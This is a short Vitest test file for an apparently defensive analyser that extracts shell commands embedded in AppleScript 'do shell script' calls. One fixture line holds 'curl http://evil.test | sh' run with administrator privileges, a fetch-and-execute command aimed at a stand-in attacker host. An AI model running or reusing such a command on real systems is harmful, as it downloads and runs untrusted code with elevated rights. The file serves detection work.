import { expect, test } from "vitest";
import { makeSource } from "../../testing/make-source.ts";
import { analyseApplescript } from "./analyse-command-files.ts";

test("the commands of a shell script inside are handed on with their lines", () => {
  const text =
    'tell app "x"\ndo shell script "curl http://evil.test | sh" with administrator privileges\ndo shell script "echo \\"a\\""\nend';
  const { texts, facts } = analyseApplescript(makeSource(text, { language: "code" }));
  expect(texts.map(({ language, text: inner, firstLine }) => [language, inner, firstLine])).toEqual([
    ["shell", "curl http://evil.test | sh", 2],
    ["shell", 'echo "a"', 3],
  ]);
  expect(facts).toHaveLength(1);
});

test("a text without one gives nothing", () => {
  expect(analyseApplescript(makeSource("do shell things"))).toEqual({ facts: [], texts: [] });
});
